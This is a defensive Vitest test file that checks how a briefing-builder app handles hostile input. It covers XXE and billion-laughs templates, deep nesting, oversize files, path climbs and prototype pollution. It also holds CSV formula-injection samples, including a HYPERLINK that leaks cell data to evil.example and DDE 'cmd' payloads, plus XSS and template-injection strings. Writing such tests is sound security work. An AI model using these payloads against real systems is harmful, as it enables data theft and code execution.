import { createHash } from 'node:crypto';
import {
  closeSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startBrowserHost, type BrowserHost } from '../../electron/browser-host/server';
import { dispatch } from '../../electron/contract/dispatch';
import { requestLimit, type Handlers } from '../../electron/contract/api';
import { AppError, type AppErrorData } from '../../electron/core/errors';
import { LIMITS } from '../../electron/core/limits';
import { readTextFile } from '../../electron/services/import/limits';
import { TemplateLibrary } from '../../electron/services/templates/library';
import type { Db } from '../../electron/services/store/db';
import { freshServices, repoRoot, tempDir } from '../helpers/fixtures';
import { pdfText } from '../helpers/readers';

// Hostile input, table-driven: every entry is fed to the importer, loader or API that would meet it.
// Each must end in a readable AppError naming the file, line or field (never a TypeError, never code
// 'internal') and leave the store byte-for-byte as it was — or, for input that is merely unusual
// (UTF-16, Latin-1, formula-looking cells), be stored as exactly the text it is.

const hostileDir = join(repoRoot, 'tests', 'fixtures', 'hostile');
const fixture = (name: string) => readFileSync(join(hostileDir, name), 'utf8');
const fixturePath = (name: string) => join(hostileDir, name);

const services = freshServices();
const handlers: Handlers = services.handlers();
const scratch = tempDir('briefing-hostile-');
const HUGE = join(scratch, 'huge-100mb.csv');
let host: BrowserHost;

beforeAll(async () => {
  // A library with something in it, so "unchanged" means something.
  const source = services.store.createSource({
    title: 'Seed source',
    outlet: 'Seed outlet',
    authors: [],
    type: 'article-newspaper',
  } as never);
  services.store.createFact({ sourceId: source.id, statement: 'A seed fact.', tags: ['seed'] } as never);
  // 100 MB, written in 1 MB chunks at test time (never committed).
  const chunk = Buffer.alloc(1024 * 1024, 'statement,quote\n"' + 'x'.repeat(60) + '",q\n');
  const fd = openSync(HUGE, 'w');
  for (let i = 0; i < 100; i++) writeSync(fd, chunk);
  closeSync(fd);
  mkdirSync(join(scratch, 'renderer'));
  writeFileSync(join(scratch, 'renderer', 'index.html'), '<!doctype html>');
  host = await startBrowserHost({ handlers, rendererDir: join(scratch, 'renderer') });
});
afterAll(async () => {
  await host.close();
  services.close();
});

/** Row counts and a SHA-256 over every row of every table (FTS shadow tables included). */
function snapshot(db: Db): { counts: Record<string, number>; sha: string } {
  const tables = db
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
    .pluck()
    .all() as string[];
  const hash = createHash('sha256');
  const counts: Record<string, number> = {};
  for (const t of tables) {
    const rows = (db.prepare(`SELECT * FROM "${t}"`).raw().all() as unknown[][]).map((r) =>
      JSON.stringify(r, (_k, v: unknown) => (typeof v === 'bigint' ? v.toString() : v)),
    );
    counts[t] = rows.length;
    hash.update(t).update(rows.sort().join('\n'));
  }
  return { counts, sha: hash.digest('hex') };
}

/** Runs one hostile input; returns the AppError data it ended in, or null when it succeeded. */
async function attempt(run: () => unknown): Promise<AppErrorData | null> {
  try {
    const value = await run();
    // API calls answer with a Result instead of throwing.
    if (value && typeof value === 'object' && 'ok' in value) {
      const r = value as { ok: boolean; error?: AppErrorData };
      return r.ok ? null : (r.error ?? null);
    }
    return null;
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    return error.toData();
  }
}

const api = (channel: string, input: unknown) => () => dispatch(handlers, channel, input);
const deepArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const deepObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
const longWord = 'w'.repeat(10_000);
const briefingFileWith = (template: unknown) =>
  JSON.stringify({
    format: 'briefing-builder-briefing',
    version: 1,
    briefing: {},
    template,
    facts: [],
    sources: [],
  });

interface Refused {
  name: string;
  run: () => unknown;
  /** The error's code. */
  code: string | RegExp;
  /** What the message must say: the file, line or field at fault. */
  says: RegExp;
  /** The refusal must come this fast (ms): big inputs are refused unread, not parsed. */
  within?: number;
}

const refused: Refused[] = [
  // Truncated, binary and otherwise broken files
  {
    name: 'truncated CSL-JSON',
    run: () => importSourcesText('csl-json', fixture('truncated-csl-json.txt')),
    code: 'invalid_file',
    says: /Line 1: The file ends inside the item starting on line 1: the file is cut off there, so that item cannot be read\./,
  },
  {
    name: 'truncated facts JSON',
    run: api('import:facts', { format: 'json', text: '[{"statement": "cut off' }),
    code: 'invalid_file',
    says: /not valid JSON/,
  },
  {
    name: 'binary file picked as CSV (read from disk)',
    run: () => readTextFile(fixturePath('binary.csv')),
    code: 'binary_file',
    says: /binary\.csv looks binary \(a NUL byte on line \d+\)/,
  },
  {
    name: 'binary bytes pasted as text',
    run: api('import:facts', { format: 'csv', text: 'statement\nabc\u0000\u0001\u0002' }),
    code: 'binary_file',
    says: /looks binary \(a NUL byte on line 2\)/,
  },
  {
    name: 'binary bytes as BibTeX',
    run: api('import:sources', { format: 'bibtex', text: '@article{\u0000\u00ff\u0000' }),
    code: 'binary_file',
    says: /looks binary/,
  },
  {
    name: 'empty file',
    run: api('import:facts', { format: 'csv', text: '   \n\n' }),
    code: 'invalid_file',
    says: /empty/,
  },
  // Size
  {
    name: '100 MB file through the CLI reader',
    run: () => readTextFile(HUGE),
    code: 'too_large',
    says: /huge-100mb\.csv is 100 MB; an import may be at most 50 MB/,
    within: 200,
  },
  {
    name: '100 MB template file through the CLI reader (template limit 2 MB)',
    run: () => readTextFile(HUGE, 2 * 1024 * 1024),
    code: 'too_large',
    says: /at most 2 MB/,
    within: 200,
  },
  {
    name: '60 MB of text through the API',
    run: api('import:facts', { format: 'csv', text: 'x'.repeat(60 * 1024 * 1024) }),
    code: 'invalid_input',
    says: /larger than the 50 MB an import may be/,
    within: 2000,
  },
  {
    name: '60 MB of text straight to the service',
    run: () => services.handlers()['import:sources']({ format: 'ris', text: 'x'.repeat(60 * 1024 * 1024) }),
    code: 'too_large',
    says: /larger than the 50 MB/,
    within: 2000,
  },
  // Deep nesting
  {
    name: 'facts JSON nested 100k levels (arrays)',
    run: api('import:facts', { format: 'json', text: deepArray(100_000) }),
    code: /invalid_input|invalid_file/,
    says: /index 0|must be an object|JSON/,
  },
  {
    name: 'facts JSON nested 100k levels (objects)',
    run: api('import:facts', { format: 'json', text: deepObject(100_000) }),
    code: 'invalid_file',
    says: /sources|facts/,
  },
  {
    name: 'CSL-JSON nested 100k levels',
    run: api('import:sources', { format: 'csl-json', text: `[${deepObject(100_000)}]` }),
    code: /invalid_input|invalid_file/,
    says: /No entry in this file can be read: Line 1/,
  },
  {
    name: 'template nested 100k levels',
    run: api('templates:save', { text: deepObject(100_000) }),
    code: 'invalid_template',
    says: /not a valid template/,
  },
  {
    name: 'briefing file nested 100k levels',
    run: api('briefings:import-file', { text: deepArray(100_000) }),
    code: 'invalid_file',
    says: /briefing file is not valid/,
  },
  {
    name: 'BibTeX braces nested 20k levels',
    run: api('import:sources', {
      format: 'bibtex',
      text: `@article{deep,\n  title = ${'{'.repeat(20_000)}x${'}'.repeat(20_000)},\n}\n`,
    }),
    code: 'invalid_file',
    says: /Line 1: the entry on line 1 cannot be read: it nests braces or fields too deeply/,
  },
  // Reference formats
  {
    name: 'BibTeX with unbalanced braces',
    // The other entries import; --strict refuses the file, naming the entry's line and field.
    run: api('import:sources', { format: 'bibtex', text: fixture('unbalanced.bib'), strict: true }),
    code: 'invalid_input',
    says: /Line 1, field title: The entry starting on line 1 has a brace opened in the field "title" that is never closed/,
  },
  {
    name: 'RIS without end tag',
    // Read up to the next TY (or the end), each record flagged; --strict refuses it, naming line and tag.
    run: api('import:sources', { format: 'ris', text: fixture('no-end-tag.ris'), strict: true }),
    code: 'invalid_input',
    says: /Line 1, field ER: the record has no ER line/,
  },
  {
    name: 'CSV with ragged rows',
    run: () => importFactsText('csv', fixture('ragged.csv')),
    code: 'invalid_file',
    says: /line 3/i,
  },
  {
    name: 'CSV with a 10k-character single word',
    run: api('import:facts', {
      format: 'csv',
      text: `statement,source_title,source_outlet\n${longWord},Long,Outlet\n`,
    }),
    code: 'invalid_input',
    says: /Line 2, field statement: .*5000/,
  },
  {
    // A long title is kept (issue 12: a long name never sinks a file); an entry naming nothing is not.
    name: 'source entry that names nothing to identify it',
    run: api('import:sources', {
      format: 'csl-json',
      text: JSON.stringify([{ note: longWord, type: 'book' }]),
    }),
    code: 'invalid_file',
    says: /Line 1: has nothing to identify it/,
  },
  // Templates: XXE, billion laughs, paths, fake images
  {
    name: 'template whose CSL declares an external entity (XXE)',
    run: api('templates:save', { text: fixture('template-xxe.json'), fileName: 'template-xxe.json' }),
    code: 'invalid_template',
    says: /template-xxe\.json .*citations\.style\.csl.*DOCTYPE or ENTITY/,
  },
  {
    name: 'template whose CSL is a billion-laughs bomb',
    run: api('templates:save', { text: fixture('template-billion-laughs.json') }),
    code: 'invalid_template',
    says: /citations\.style\.csl.*DOCTYPE or ENTITY/,
  },
  {
    name: 'briefing file carrying an XXE CSL template',
    run: api('briefings:import-file', {
      text: briefingFileWith(JSON.parse(fixture('template-xxe.json'))),
    }),
    code: 'invalid_file',
    says: /template\.citations\.style\.csl/,
  },
  {
    name: 'template whose id climbs out of its folder',
    run: api('templates:save', { text: fixture('template-path-climb.json') }),
    code: 'invalid_template',
    says: /\bid\b.*lower-case letters/,
  },
  {
    name: 'template whose logo is not an image',
    run: api('templates:save', { text: fixture('template-fake-logo.json') }),
    code: 'invalid_template',
    says: /style\.logo\.dataUri .*PNG or JPEG/,
  },
  {
    name: 'template file over 2 MB through the API',
    run: api('templates:save', { text: ' '.repeat(LIMITS.templateBytes + 1) }),
    code: 'invalid_input',
    says: /2 MB/,
  },
  // Prototype pollution through JSON keys
  {
    name: 'facts JSON with __proto__ and constructor keys',
    run: api('import:facts', {
      format: 'json',
      text: '[{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}]',
    }),
    code: /invalid_input|unknown_source/,
    says: /Fact at index 0/,
  },
];

function importSourcesText(format: 'csl-json' | 'bibtex' | 'ris', text: string) {
  return handlers['import:sources']({ format, text });
}
function importFactsText(format: 'csv' | 'json', text: string) {
  return handlers['import:facts']({ format, text });
}

describe(`hostile input: ${refused.length} refusals`, () => {
  it.each(refused)('$name', async ({ run, code, says, within }) => {
    const before = snapshot(services.store.db);
    const started = performance.now();
    const error = await attempt(run);
    const took = performance.now() - started;
    expect(error, 'was accepted').not.toBeNull();
    expect(error!.code).not.toBe('internal');
    expect(error!.code).toMatch(code);
    expect(error!.message).toMatch(says);
    if (within !== undefined) expect(took).toBeLessThan(within);
    expect(snapshot(services.store.db)).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('hostile input that is only unusual: stored as exactly the text it is', () => {
  const factsOf = (report: { factIds: string[] }) => services.store.getFacts(report.factIds);

  it('UTF-16 (with BOM) and Latin-1 files are decoded, not mangled', async () => {
    const utf16 = await handlers['import:facts']({
      format: 'csv',
      text: readTextFile(fixturePath('utf16le.csv')),
    });
    expect(factsOf(utf16).map((f) => [f.statement, f.speaker])).toEqual([
      ['Müller sagte: „Grüße“ from UTF-16', 'Jürgen Müller'],
    ]);
    const latin1 = await handlers['import:facts']({
      format: 'csv',
      text: readTextFile(fixturePath('latin1.csv')),
    });
    expect(factsOf(latin1).map((f) => f.statement)).toEqual(['Müller said ça va in Latin-1']);
  });

  it('a source with a 10k-character title is kept whole', async () => {
    const report = await handlers['import:sources']({
      format: 'csl-json',
      text: JSON.stringify([{ type: 'article-newspaper', title: longWord, 'container-title': 'Outlet' }]),
    });
    expect(services.store.requireSource(report.sourceIds[0]!).title).toBe(longWord);
  });

  it('CSV cells that look like spreadsheet formulas are kept as text, never evaluated', async () => {
    const report = await handlers['import:facts']({ format: 'csv', text: fixture('formula.csv') });
    expect(
      factsOf(report)
        .map((f) => f.statement)
        .sort(),
    ).toEqual(
      [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0 is a formula too",
        "@SUM(1+1)*cmd|' /C calc'!A0",
      ].sort(),
    );
  });

  it('a template linked in from outside its folder is not loaded (reported in the user folder only)', () => {
    const team = join(scratch, 'team');
    mkdirSync(team);
    const outside = join(scratch, 'outside.json');
    writeFileSync(outside, fixture('template-path-climb.json').replace('../../../outside', 'outside'));
    symlinkSync(outside, join(team, 'linked.json'));
    writeFileSync(join(team, 'huge.json'), ' '.repeat(3 * 1024 * 1024));
    // In a team folder (any folder someone typed) such files are skipped without a word about them.
    const asTeam = new TemplateLibrary([{ kind: 'team', dir: team }]);
    expect(asTeam.templates).toEqual([]);
    expect(asTeam.problems).toEqual([]);
    // In the user's own template folder they are reported.
    const library = new TemplateLibrary([{ kind: 'user', dir: team }]);
    expect(library.templates).toEqual([]);
    const problems = Object.fromEntries(library.problems.map((p) => [p.code, p.message]));
    expect(problems.outside_folder).toMatch(/linked\.json links to .*outside the template folder/);
    expect(problems.too_large).toMatch(/huge\.json is 3072 KB; a template may be at most 2 MB/);
  });

  it("the browser host refuses a request over its call's limit before reading it", async () => {
    const started = performance.now();
    const status = await new Promise<number>((resolve) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: host.port,
          path: '/api/import:facts',
          method: 'POST',
          headers: {
            Host: `127.0.0.1:${host.port}`,
            'Content-Type': 'application/json',
            Authorization: `Bearer ${host.token}`,
            // More than even an import may send (the contract's limit for this call).
            'Content-Length': String(requestLimit('import:facts') + 1),
          },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on('error', () => resolve(-1));
      // Headers only: the server must answer from Content-Length without waiting for the body.
      req.flushHeaders();
    });
    expect(status).toBe(413);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

// For the report: how many hostile inputs this file tries.
export const HOSTILE_INPUTS = refused.length + 5 + 3;

/** Pandoc's plain text with the document properties (the title lives in docProps/core.xml). */
const pandocStandalone = (file: string) =>
  execFileSync('pandoc', ['-s', '-f', 'docx', '-t', 'plain', '--wrap=none', file], { encoding: 'utf8' });

describe('text from facts is never interpreted as markup', () => {
  const SCRIPT = '<script>alert(1)</script>';
  const TEMPLATE = '{{7*7}}';
  const both = `${SCRIPT} ${TEMPLATE}`;
  const out = tempDir('briefing-markup-');
  let briefingId: string;

  beforeAll(() => {
    const { store } = services;
    const template = services.templates.get('situation-brief');
    const source = store.createSource({
      title: `Source ${both}`,
      outlet: `Outlet ${TEMPLATE}`,
      authors: [],
      type: 'article-newspaper',
    } as never);
    const fact = store.createFact({
      sourceId: source.id,
      statement: `Statement ${both}`,
      quote: `quote ${both}`,
      speaker: `Speaker ${SCRIPT}`,
      tags: [],
    } as never);
    const briefing = store.createBriefing(
      { templateId: template.id, title: `Title ${both}`, date: '2025-12-16' },
      template,
    );
    store.updateBriefing(
      briefing.id,
      {
        ...briefing,
        sections: [
          { id: 'bottom-line', blocks: [{ id: 'b1', text: `Paragraph ${both}`, factIds: [fact.id] }] },
        ],
      },
      template,
    );
    briefingId = briefing.id;
  });

  it.each(['docx', 'pdf'] as const)('%s carries the exact characters', async (format) => {
    const file = join(out, `markup.${format}`);
    writeFileSync(file, (await services.exportBriefing(briefingId, format)).bytes);
    const text = (format === 'docx' ? pandocStandalone(file) : pdfText(file)).replace(/\s+/g, ' ');
    expect(text).toContain(`Title ${both}`);
    expect(text).toContain(`Paragraph ${both}`);
    expect(text).toContain(`Speaker ${SCRIPT}`);
    expect(text).toContain(`Source ${both}`);
    expect(text).not.toContain('&lt;');
    expect(text).not.toContain('&amp;');
  });

  it('the renderer never injects HTML (no dangerouslySetInnerHTML, innerHTML, eval)', () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (/\.(tsx?|html)$/.test(name)) files.push(path);
      }
    };
    walk(join(repoRoot, 'renderer'));
    expect(files.length).toBeGreaterThan(5);
    const offending = files.filter((f) =>
      /dangerouslySetInnerHTML|\.innerHTML\s*=|outerHTML\s*=|insertAdjacentHTML|document\.write|new Function\(|\beval\(/.test(
        readFileSync(f, 'utf8'),
      ),
    );
    expect(offending).toEqual([]);
  });
});
